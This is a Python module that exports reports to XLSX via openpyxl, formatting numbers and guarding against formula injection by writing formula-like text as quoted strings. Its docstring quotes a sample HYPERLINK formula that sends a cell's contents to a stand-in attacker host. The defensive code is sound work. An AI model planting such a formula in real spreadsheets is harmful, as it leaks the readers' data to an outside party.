"""A report as XLSX through openpyxl's write-only mode: rows stream out, memory stays flat.

Amounts are real numbers with a '#,##0' format (not text), so they read back as numbers and sum
in the spreadsheet; rates are ratios with a '0.00%' format.

Text is always a string cell. openpyxl turns any string starting with '=' into a live formula (and
'#REF!' and the like into error cells), so a journal description such as
`=HYPERLINK("http://evil.example/x?d="&F10,"明細")` would run in the reader's spreadsheet: text that
looks like a formula (sheet.is_formula_like) or an error code is written as an inline string with
the quote-prefix style, which also keeps it text when the reader edits the cell. The visible text
is the user's, unchanged (no leading apostrophe is added to the value).
"""

from __future__ import annotations

from collections.abc import Sequence
from typing import IO

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ERROR_CODES
from openpyxl.styles import Alignment, Font
from openpyxl.utils import get_column_letter
from openpyxl.worksheet._write_only import WriteOnlyWorksheet

from tenant_app.reports.sheet import Cell, ColumnKind, Sheet, is_formula_like, is_subtotal

MONEY_FORMAT = "#,##0"
RATE_FORMAT = "0.00%"
DATE_FORMAT = "yyyy-mm-dd"
_RIGHT = Alignment(horizontal="right")
_BOLD = Font(bold=True)
_FORMATS = {ColumnKind.MONEY: MONEY_FORMAT, ColumnKind.COUNT: MONEY_FORMAT, ColumnKind.RATE: RATE_FORMAT}


def _needs_text_marking(value: Cell) -> bool:
    return isinstance(value, str) and (is_formula_like(value) or value in ERROR_CODES)


def _cell(ws: WriteOnlyWorksheet, value: Cell) -> WriteOnlyCell:
    """A cell holding `value`; text openpyxl would make a formula or an error stays a string."""
    cell = WriteOnlyCell(ws, value=value)
    if _needs_text_marking(value):
        cell.data_type = "s"  # written as <is><t>..</t></is>: never a <f> element
        cell.quotePrefix = True
    return cell


def _row(ws: WriteOnlyWorksheet, values: Sequence[Cell], kinds: Sequence[ColumnKind], bold: bool) -> list:
    """Styled cells only where a format, bold or text marking is needed: write-only cells cost the most."""
    cells: list[object] = []
    for value, kind in zip(values, kinds, strict=True):
        fmt = _FORMATS.get(kind)
        if not bold and kind is ColumnKind.TEXT and not _needs_text_marking(value):
            cells.append(value)
            continue
        cell = _cell(ws, value)
        if fmt is not None and not isinstance(value, str):
            cell.number_format = fmt
            cell.alignment = _RIGHT
        elif kind is ColumnKind.DATE:
            cell.number_format = DATE_FORMAT
        if bold:
            cell.font = _BOLD
        cells.append(cell)
    return cells


def write(sheet: Sheet, out: IO[bytes]) -> None:
    wb = Workbook(write_only=True)
    ws = wb.create_sheet(sheet.name)
    for index, column in enumerate(sheet.columns, start=1):
        ws.column_dimensions[get_column_letter(index)].width = column.width
    header_lines = sheet.header.lines()
    ws.freeze_panes = f"A{len(header_lines) + 2}"
    for text in header_lines:
        title = _cell(ws, text)
        title.font = _BOLD
        ws.append([title])
    kinds = [c.kind for c in sheet.columns]
    ws.append(_row(ws, [c.label_zh for c in sheet.columns], [ColumnKind.TEXT] * len(kinds), True))
    for values in sheet.rows:
        ws.append(_row(ws, values, kinds, is_subtotal(values)))
    if sheet.totals is not None:
        ws.append(_row(ws, sheet.totals, kinds, True))
    for note in sheet.notes:
        ws.append([_cell(ws, note)])
    wb.save(out)
